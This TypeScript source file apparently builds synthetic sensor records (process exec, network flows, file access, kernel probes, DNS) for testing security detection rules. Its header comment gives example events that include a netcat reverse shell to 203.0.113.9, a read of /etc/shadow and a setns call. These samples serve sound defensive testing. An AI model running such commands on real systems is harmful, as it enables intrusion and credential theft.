/**
 * The compact events of a rule's test, written out as the sensors would have exported them. Every event takes `at` (time from the
 * beginning; else a moment after the event before) and, of a process, `p` (its label), `pod: namespace/name`, `node`, and
 * whatever else is said of it the first time: `binary arguments uid user cwd pid auid parent container image container_age …`.
 *
 *     exec:    {p: A, parent: B, binary: /usr/bin/nc, arguments: '-e /bin/sh 203.0.113.9 443', pod: shop/cart}
 *     exit:    {p: A, status: 1}  or  {p: A, signal: SIGKILL}
 *     flow:    {p: A, to: '203.0.113.9:443'}   (verdict, reply, kind, names, http: {method, url, code} … as wanted)
 *     connect: {p: A, to: 'shop/db:5432'}
 *     file:    {p: A, path: /etc/shadow, access: read}
 *     kprobe:  {p: A, function: __x64_sys_setns, args: [{int: 5}, {int: 1073741824}]}
 *     dns:     {p: A, query: bucket.s3.amazonaws.com, answers: [203.0.113.7]}
 *     raw:     {process_exec: {…}, node_name: …, time: …}
 *
 * What the author did not write, but what must have been (a parent's exec, the socket of a flow's process), goes to the
 * context only: no rule is tried on it.
 */
import { MICROS_PER_MS, type Micros } from '../model/time.ts';
import type { TestEvent } from '../rules/rule-test.ts';
import { type Actor, Actors } from './actors.ts';
import { type FlowEnd, flowEnd, podEnd } from './addresses.ts';
import { BadTest, Given, isObject } from './given.ts';
import { HOST, type Json, Places, TEST_EPOCH } from './places.ts';
import { execRecord, exitRecord, flowRecord, kprobeRecord, sockArg } from './records.ts';

/** A record to decode. */
export interface Entry {
  readonly record: Json;
  /** Position of the compact event that it stands for; null for what the author left out, on which no rule is tried. */
  readonly event: number | null;
}

const GAP: Micros = 10 * MICROS_PER_MS;
const EPHEMERAL_PORT = 40_000;
const RESOLVER = 'kube-system/coredns-0';
const DEFAULT_NODE = 'node-1';
const MASKS: Readonly<Record<string, number>> = { exec: 1, write: 2, read: 4 };

export class Scenario {
  readonly entries: Entry[] = [];
  readonly #places = new Places();
  readonly #actors = new Actors(this.#places);
  #time: Micros = TEST_EPOCH - GAP;
  #port = EPHEMERAL_PORT;
  #flows = 0;

  /** Throws `BadTest` where the event cannot be understood. */
  add(event: TestEvent, position: number): void {
    if (event.type === 'raw') {
      this.entries.push({ record: event.fields, event: position });
      return;
    }
    const given = new Given(event.type, event.fields);
    const at = given.duration('at');
    this.#time = at === null ? this.#time + GAP : TEST_EPOCH + at;
    const record = this.#record(event.type, given, this.#time);
    given.done();
    this.entries.push({ record, event: position });
  }

  #record(type: TestEvent['type'], given: Given, time: Micros): Json {
    switch (type) {
      case 'exec':
        return this.#exec(given, time);
      case 'exit':
        return exitRecord(this.#who(given, time), time, given.text('signal'), given.number('status'));
      case 'connect':
        return this.#connect(given, time);
      case 'file':
        return this.#file(given, time);
      case 'kprobe':
        return this.#kprobe(given, time);
      case 'flow':
        return this.#flow(given, time);
      case 'dns':
        return this.#dns(given, time);
      default:
        throw new BadTest(`${type}: unknown kind of event`);
    }
  }

  #exec(given: Given, time: Micros): Json {
    const replaced = given.text('replaces');
    const replaces = replaced === null ? null : this.#actors.labelled(replaced);
    if (replaced !== null && replaces === null) throw given.bad(`no process '${replaced}' to replace`);
    if (!given.has('binary')) throw given.bad('binary is missing');
    const parent = replaces === null ? this.#parent(given, time) : null;
    const actor = this.#actors.enter({ label: given.text('p'), time, parent, replaces, binary: '' }, given);
    return execRecord(actor, time);
  }

  /** `parent` is a label, the path of a program that ran before, or a map of its own. */
  #parent(given: Given, time: Micros): Actor | null {
    if (!given.has('parent')) return null;
    const before = time - GAP;
    const block = given.map('parent');
    if (block !== null) {
      const parent = new Given('parent', block);
      if (!parent.has('binary')) throw parent.bad('binary is missing');
      const known = this.#actors.labelled(parent.text('p') ?? '');
      if (known !== null) return known;
      const grandparent = this.#parent(parent, before);
      const inherited = new Given('parent', { ...(given.has('pod') ? { pod: given.text('pod') } : {}), ...block });
      return this.#unseen(parent.text('p'), inherited, before, grandparent, '');
    }
    const label = given.text('parent') ?? '';
    const known = this.#actors.labelled(label);
    if (known !== null) return known;
    if (!label.startsWith('/')) {
      throw given.bad(
        `no process '${label}' for a parent: name one of ${this.#actors.labels.join(', ') || '(none yet)'}, or a path`,
      );
    }
    return this.#unseen(
      label,
      new Given('parent', given.has('pod') ? { pod: given.text('pod') } : {}),
      before,
      null,
      label,
    );
  }

  /** A process that began before the test did. */
  #unseen(label: string | null, given: Given, time: Micros, parent: Actor | null, binary: string): Actor {
    const actor = this.#actors.enter({ label, time, parent, replaces: null, binary }, given);
    this.entries.push({ record: execRecord(actor, time), event: null });
    return actor;
  }

  /** The process that an event names; one that the test has not spoken of before began a moment ago. */
  #who(given: Given, time: Micros): Actor {
    const label = given.text('p');
    const known = label === null ? null : this.#actors.labelled(label);
    if (known === null) return this.#unseen(label, given, time - GAP, this.#parent(given, time), '/bin/sh');
    this.#places.of(given, null);
    return known;
  }

  #connect(given: Given, time: Micros): Json {
    const actor = this.#who(given, time);
    const protocol = given.text('protocol') ?? 'TCP';
    const remote = this.#remote(given, 'to', 443);
    const local = podEnd(actor.place, given.number('sport') ?? this.#port++);
    return this.#socket(actor, time, protocol, local, remote);
  }

  #socket(actor: Actor, time: Micros, protocol: string, local: FlowEnd, remote: FlowEnd): Json {
    const isTcp = protocol === 'TCP';
    return kprobeRecord(actor, time, {
      function: isTcp ? 'tcp_connect' : 'udp_sendmsg',
      args: [sockArg(protocol, local, remote, isTcp ? 'TCP_SYN_SENT' : 'TCP_ESTABLISHED')],
      policy: isTcp ? 'tcp-connect' : 'udp-send',
    });
  }

  #file(given: Given, time: Micros): Json {
    const actor = this.#who(given, time);
    const path = given.text('path');
    if (path === null) throw given.bad('path is missing');
    const access = given.texts('access') ?? ['read'];
    const mask = access.reduce((sum, name) => sum | (MASKS[name] ?? 0), 0);
    const opens = access.includes('open');
    if (mask === 0 && !opens) throw given.bad(`access must be among read, write, exec, open, not ${access.join(', ')}`);
    const file = { file_arg: { path, permission: '-rw-r--r--' } };
    return kprobeRecord(actor, time, {
      function: given.text('function') ?? (opens ? 'security_file_open' : 'security_file_permission'),
      args: opens ? [file] : [file, { int_arg: mask }],
      policy: given.text('policy') ?? 'files',
      more: hookDetails(given),
    });
  }

  #kprobe(given: Given, time: Micros): Json {
    const actor = this.#who(given, time);
    const called = given.text('function');
    if (called === null) throw given.bad('function is missing');
    const returned = given.object('return');
    return kprobeRecord(actor, time, {
      function: called,
      args: (given.list('args') ?? []).map(arg => argument(arg, given)),
      policy: given.text('policy') ?? 'test',
      more: { ...hookDetails(given), ...(returned === null ? {} : { return: argument(returned, given) }) },
    });
  }

  #flow(given: Given, time: Micros): Json {
    const protocol = given.text('protocol') ?? 'TCP';
    const port = given.number('sport');
    const reply = given.flag('reply') ?? false;
    const attribution = given.text('attribution') ?? 'socket';
    if (!['socket', 'inferred', 'pod'].includes(attribution))
      throw given.bad(`attribution must be socket, inferred or pod, not '${attribution}'`);
    const actor = given.has('p') ? this.#who(given, time) : null;
    const place = actor?.place ?? this.#places.of(given, HOST);
    const incoming = given.has('from');
    const local = podEnd(place, incoming ? (given.number('port') ?? 80) : (port ?? this.#port++));
    const remote = incoming ? this.#remote(given, 'from', port ?? this.#port++) : this.#remote(given, 'to', 443);
    if (actor !== null && attribution === 'socket') this.#attribute(actor, time, protocol, local, remote, incoming);
    const [client, server] = incoming ? [remote, local] : [local, remote];
    const node = given.text('node') ?? actor?.node ?? DEFAULT_NODE;
    const flags = given.texts('tcp_flags');
    const more = flowDetails(given, remote);
    return flowRecord({ client, server, protocol, reply, flags, node, more }, time, this.#flows++);
  }

  /** The socket event by which the context knows whose flow it is. */
  #attribute(actor: Actor, time: Micros, protocol: string, local: FlowEnd, remote: FlowEnd, incoming: boolean): void {
    const accepted = {
      function: 'inet_csk_accept',
      args: [],
      policy: 'tcp-accept',
      more: { return: sockArg(protocol, local, remote, 'TCP_ESTABLISHED') },
    };
    const record = incoming ? kprobeRecord(actor, time, accepted) : this.#socket(actor, time, protocol, local, remote);
    this.entries.push({ record, event: null });
  }

  #dns(given: Given, time: Micros): Json {
    const query = given.text('query');
    if (query === null) throw given.bad('query is missing');
    const actor = given.has('p') ? this.#who(given, time) : null;
    const place = actor?.place ?? this.#places.of(given, HOST);
    const answers = given.texts('answers');
    const rcode = given.number('rcode') ?? 0;
    const reply = answers !== null || rcode !== 0;
    const client = podEnd(place, given.number('sport') ?? this.#port++);
    const server = flowEnd(RESOLVER, 53, null, this.#places, given);
    if (actor !== null) this.#attribute(actor, time, 'UDP', client, server, false);
    const dns = {
      query: query.endsWith('.') ? query : `${query}.`,
      ...(answers === null ? {} : { ips: answers, ttl: 30 }),
      ...(rcode === 0 ? {} : { rcode }),
      qtypes: given.texts('qtypes') ?? ['A'],
      ...(answers === null ? {} : { rrtypes: ['A'] }),
    };
    const more = {
      Type: 'L7',
      event_type: { type: 129 },
      l7: { type: reply ? 'RESPONSE' : 'REQUEST', dns },
      ...given.object('set'),
    };
    const node = given.text('node') ?? actor?.node ?? DEFAULT_NODE;
    const packet = { client, server, protocol: 'UDP', reply, flags: null, node, more };
    return flowRecord(packet, time, this.#flows++);
  }

  #remote(given: Given, key: string, port: number): FlowEnd {
    const text = given.text(key);
    if (text === null) throw given.bad(`${key} is missing: an address, a pod or a name, with its port`);
    return flowEnd(text, port, given.text('kind'), this.#places, given);
  }
}

/** What a flow may say beyond its ends. `set` takes fields as Hubble exports them. */
function flowDetails(given: Given, remote: FlowEnd): Json {
  const http = given.object('http');
  const names = given.texts('names');
  const verdict = given.text('verdict');
  const dropReason = given.text('drop_reason');
  const direction = given.text('direction');
  const service = given.text('service')?.split('/');
  const labels = given.texts('peer_labels');
  const incoming = given.has('from');
  return {
    ...(verdict === null ? {} : { verdict }),
    ...(dropReason === null ? {} : { drop_reason_desc: dropReason, verdict: verdict ?? 'DROPPED' }),
    ...(direction === null ? {} : { traffic_direction: direction.toUpperCase() }),
    ...(names === null ? {} : { [incoming ? 'source_names' : 'destination_names']: names }),
    ...(labels === null ? {} : { [incoming ? 'source' : 'destination']: { ...remote.endpoint, labels } }),
    ...(service === undefined ? {} : { destination_service: { namespace: service[0] ?? '', name: service[1] ?? '' } }),
    ...(http === null ? {} : { Type: 'L7', event_type: { type: 129 }, l7: httpLayer(http) }),
    ...given.object('set'),
  };
}

function httpLayer(http: Json): Json {
  const given = new Given('http', http);
  const code = given.number('code');
  const headers = given.object('headers') ?? {};
  const layer = {
    type: code === null ? 'REQUEST' : 'RESPONSE',
    http: {
      ...(code === null ? {} : { code }),
      method: given.text('method') ?? 'GET',
      url: given.text('url') ?? '/',
      protocol: given.text('protocol') ?? 'HTTP/1.1',
      headers: Object.entries(headers).map(([key, value]) => ({ key, value: String(value) })),
    },
  };
  given.done();
  return layer;
}

function hookDetails(given: Given): Json {
  const message = given.text('message');
  const tags = given.texts('tags');
  const action = given.text('action');
  return {
    ...(message === null ? {} : { message }),
    ...(tags === null ? {} : { tags }),
    ...(action === null ? {} : { action }),
  };
}

/** `{int: 5}` → `{int_arg: 5}`, with 64-bit integers as texts, as the export has them. */
function argument(value: unknown, given: Given): Json {
  const entries = isObject(value) ? Object.entries(value) : [];
  if (entries.length === 0)
    throw given.bad(`an argument is a map of its type to its value, not ${JSON.stringify(value)}`);
  return Object.fromEntries(
    entries.map(([type, content]) => {
      if (type === 'label') return [type, content];
      const isWide = type === 'size' || type === 'long';
      return [
        type.endsWith('_arg') || type === 'syscall_id' ? type : `${type}_arg`,
        isWide ? String(content) : content,
      ];
    }),
  );
}
